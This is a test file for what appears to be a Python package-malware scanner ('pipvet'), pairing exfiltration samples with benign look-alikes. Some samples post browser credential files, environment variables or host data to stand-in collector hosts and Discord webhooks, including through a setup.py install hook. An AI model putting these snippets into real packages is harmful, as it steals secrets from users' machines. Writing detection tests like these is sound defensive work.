@@ -1,0 +1,199 @@
+"""Exfiltration channels and the source + sink combination, each with a benign look-alike."""
+
+from __future__ import annotations
+
+from rulekit import ids, py, run
+
+from pipvet.analysis.rules import exfiltration, secrets
+from pipvet.analysis.score import score
+from pipvet.models import Severity, Stage, Verdict
+
+R = exfiltration.RULES
+ALL = secrets.RULES + exfiltration.RULES
+
+HOOK = "https://discord.com/api/webhooks/" + "1" * 18 + "/" + "a" * 40
+
+
+def test_discord_webhook_with_token_is_high() -> None:
+    bad = py(f"import requests\nrequests.post('{HOOK}', json={{'content': 'hi'}})\n")
+    found = [f for f in run(R, bad) if f.rule == "PV-EXF-CHANNEL"]
+    assert found
+    assert found[0].severity is Severity.HIGH
+    assert found[0].line == 2
+
+
+def test_telegram_bot_api_is_high_and_ordinary_api_url_is_not() -> None:
+    bad = py("import urllib.request\nURL = 'https://api.telegram.org/bot123:ABC/sendMessage'\n")
+    assert "PV-EXF-CHANNEL" in ids(run(R, bad))
+    benign = py("import httpx\nBASE = 'https://api.github.com/repos'\nhttpx.get(BASE)\n")
+    assert run(R, benign) == []
+
+
+def test_raw_public_ip_versus_private_and_metadata_addresses() -> None:
+    bad = py("import socket\ns = socket.socket()\ns.connect(('45.13.7.9', 4444))\n")
+    assert "PV-EXF-RAWIP" in ids(run(R, bad))
+    benign = py(
+        "IMDS = 'http://169.254.169.254/latest/meta-data/'\n"
+        "LOCAL = 'http://127.0.0.1:8080/'\n"
+        "LAN = 'http://192.168.1.10/'\n"
+        "scope = {'client': ('1.2.3.4', 123)}\n"
+        "probe = socket.socket(); probe.connect(('8.8.8.8', 80))\n"
+    )
+    assert run(R, benign) == []
+
+
+def test_dns_lookup_of_encoded_labels() -> None:
+    bad = py(
+        "import socket, binascii, getpass\n"
+        "label = binascii.hexlify(getpass.getuser().encode()).decode()\n"
+        "socket.gethostbyname(label + '.x1.example-collector.com')\n"
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-EXF-DNS"]
+    assert found
+    assert found[0].severity is Severity.HIGH
+    benign = py(
+        "import socket\nip = socket.gethostbyname(socket.gethostname())\naddr = socket.gethostbyname(host)\n"
+    )
+    assert "PV-EXF-DNS" not in ids(run(R, benign))
+
+
+def test_stealer_store_plus_sink_is_critical_and_malicious_at_import() -> None:
+    bad = py(
+        "import os, requests\n"
+        "p = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Local State'\n"
+        "requests.post('https://collector.example/up', files={'f': open(p, 'rb')})\n"
+    )
+    found = run(ALL, bad)
+    combo = [f for f in found if f.rule == "PV-EXF-COMBO"]
+    assert combo
+    assert combo[0].severity is Severity.CRITICAL
+    assert combo[0].stage is Stage.IMPORT
+    assert score(found).verdict is Verdict.MALICIOUS
+
+
+def test_install_time_beacon_is_malicious() -> None:
+    bad = py(
+        "import getpass, socket, platform, requests\n"
+        "from setuptools import setup\n"
+        "data = {'u': getpass.getuser(), 'h': socket.gethostname(), 'o': platform.system()}\n"
+        "requests.get('http://beacon.example.com/c', params=data)\n"
+        "setup(name='x')\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    assert score(run(ALL, bad)).verdict is Verdict.MALICIOUS
+
+
+def test_sdk_reading_its_credentials_and_calling_its_api_stays_clean() -> None:
+    benign = py(
+        "import os, requests\n"
+        "class Client:\n"
+        "    def __init__(self, endpoint):\n"
+        "        self.endpoint = endpoint\n"
+        "        self.path = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\n"
+        "    def call(self, body):\n"
+        "        return requests.post(self.endpoint, json=body)\n"
+    )
+    found = run(ALL, benign)
+    assert "PV-EXF-COMBO" not in ids(found)
+    assert score(found).verdict is Verdict.CLEAN
+
+
+def test_environment_sent_out_is_critical() -> None:
+    bad = py(
+        "import os, json, urllib.request\n"
+        "urllib.request.urlopen('http://c.example/', json.dumps(dict(os.environ)).encode())\n"
+    )
+    combo = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
+    assert combo
+    assert combo[0].severity is Severity.CRITICAL
+
+
+def test_findings_in_tests_and_docs_weigh_little() -> None:
+    code = (
+        "import os, requests\n"
+        "p = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Local State'\n"
+        "requests.post('http://45.13.7.9/up', data=open(p).read())\n"
+    )
+    shipped = run(ALL, py(code, path="pkg/steal.py"))
+    in_tests = run(ALL, py(code, path="pkg-1.0/tests/test_steal.py", stage=Stage.RUNTIME))
+    assert ids(in_tests) == ids(shipped)
+    assert all(f.severity is Severity.LOW for f in in_tests)
+    assert score(in_tests).verdict is not Verdict.MALICIOUS
+
+
+def test_environment_walked_into_a_hard_coded_url() -> None:
+    bad = py(
+        "import requests, base64\n"
+        "from os import environ\n"
+        "class Ctx(dict):\n"
+        "    def __init__(self):\n"
+        "        self.send()\n"
+        "    def send(self):\n"
+        "        s = ''\n"
+        "        for _, value in environ.items():\n"
+        "            s += value + ' '\n"
+        "        requests.get('https://collector.example/h/' + base64.b64encode(s.encode()).decode())\n"
+    )
+    combo = [f for f in run(ALL, bad) if f.rule == "PV-EXF-COMBO"]
+    assert combo
+    assert combo[0].severity is Severity.HIGH
+    benign = py(
+        "import os, requests\n"
+        "def proxies(url):\n"
+        "    found = {k: v for k, v in os.environ.items() if k.lower().endswith('_proxy')}\n"
+        "    return requests.get(url, proxies=found)\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, benign))
+
+
+def test_environment_as_a_field_of_collected_data() -> None:
+    bad = py(
+        "import os, json\n"
+        "from urllib import request\n"
+        "data = json.dumps({'host': os.uname(), 'ev': str(os.environ), 'c': os.getcwd()})\n"
+        "request.urlopen(request.Request('https://collector.example/r?d=' + data))\n"
+    )
+    assert "PV-SEC-ENVDUMP" in ids(run(ALL, bad))
+
+
+def test_install_time_webhook_post_of_host_and_ip_is_malicious() -> None:
+    bad = py(
+        "from setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class Install(install):\n"
+        "    def run(self):\n"
+        "        import socket, requests\n"
+        "        hostname = socket.gethostname()\n"
+        "        ip = socket.gethostbyname(hostname)\n"
+        f"        requests.post('{HOOK}', json={{'content': hostname + ip}})\n"
+        "setup(name='x', cmdclass={'install': Install})\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    assert score(run(ALL, bad)).verdict is Verdict.MALICIOUS
+    bot_library = py(
+        f"import requests\ndef notify(msg):\n    requests.post('{HOOK}', json={{'content': msg}})\n"
+    )
+    assert score(run(ALL, bot_library)).verdict is not Verdict.MALICIOUS
+
+
+def test_channels_named_in_docstrings_and_comments_are_documentation() -> None:
+    benign = py(
+        "def create_webhook(url):\n"
+        '    """Create a webhook.\n\n'
+        "    Example: create_webhook(url='https://webhook.site/a2176e82-5720-43ee-9e06-f91cb4c91548')\n"
+        '    """\n'
+        "    # see https://api.telegram.org/bot<token>/sendMessage for the format\n"
+        "    return url\n"
+    )
+    assert run(ALL, benign) == []
+
+
+def test_placeholder_slack_webhook_in_a_config_example() -> None:
+    benign = py(
+        "EXAMPLE = {'alerts': 'https://nothooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'}\n"
+    )
+    assert run(R, benign) == []
+    bad = py("HOOK = 'https://hooks.slack.com/services/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'\n")
+    assert "PV-EXF-CHANNEL" in ids(run(R, bad))
